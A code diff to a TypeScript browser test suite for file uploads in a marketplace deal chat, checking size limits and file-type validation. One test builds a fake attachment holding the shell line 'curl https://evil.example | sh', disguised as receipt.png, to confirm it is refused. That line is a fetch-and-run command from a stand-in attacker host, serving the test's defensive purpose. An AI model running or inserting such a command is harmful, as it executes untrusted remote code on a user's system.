@@ -1,4 +1,7 @@
 // Files in a deal's chat: limits, interrupted uploads, file names in any script.
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import * as assert from 'uvu/assert';
 import { ALICE, BOB } from '../../scripts/demo/users.ts';
 import { createBrowserSuite, type Phone } from '../harness/browser/suite.ts';
@@ -18,15 +21,19 @@ import {
 import { startApprovedDeal, waitUntil } from './market-fixtures.ts';
 
 const scanner = await startFakeHttpScanner();
-const { scenario, run } = createBrowserSuite('deal files', { env: { SCAN_URL: scanner.url } });
+const { scenario, run } = createBrowserSuite('deal files', {
+  env: { SCAN_URL: scanner.url },
+  timing: { RECONNECT_MS: 200 },
+  isStill: true,
+});
 
 const MEGABYTE = 1024 * 1024;
-/** A file of this size with the container of a JPEG. */
-const createPhoto = (name: string, bytes: number): Attachment => ({
-  name,
-  mimeType: 'image/jpeg',
-  buffer: jpegOf(bytes),
-});
+/** Saves a file of this size with the container of a JPEG; resolves with its path. */
+async function savePhoto(directory: string, name: string, bytes: number): Promise<string> {
+  const path = join(directory, name);
+  await writeFile(path, jpegOf(bytes));
+  return path;
+}
 const createPicture = (name: string): Attachment => ({ name, mimeType: 'image/png', buffer: RED_PIXEL_PNG });
 
 const openButton = ({ page }: Phone, name: string) =>
@@ -36,12 +43,14 @@ scenario(
   'CHAT-02 a script with a picture’s name is refused, a photo of 10 MB is accepted, one byte more is refused',
   async (env) => {
     const { alice, bob } = await openBothDealPages(env);
+    const directory = await mkdtemp(join(tmpdir(), 'kantor-photos-'));
+    env.afterPhones(() => rm(directory, { recursive: true }));
     const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
     await attachFile(alice, 'Photo', { name: 'receipt.png', mimeType: 'image/png', buffer: script });
     await expectText(alice, 'Only images and PDF files are supported.');
-    await attachFile(alice, 'Photo', createPhoto('too-large.jpg', 10 * MEGABYTE + 1));
+    await attachFile(alice, 'Photo', await savePhoto(directory, 'too-large.jpg', 10 * MEGABYTE + 1));
     await expectText(alice, 'The file is too large. At most 10 MB are allowed.');
-    await attachFile(alice, 'Photo', createPhoto('large.jpg', 10 * MEGABYTE));
+    await attachFile(alice, 'Photo', await savePhoto(directory, 'large.jpg', 10 * MEGABYTE));
     await messagesWith(alice, '')
       .getByRole('img', { name: /^(Sent|Read)$/ })
       .waitFor();
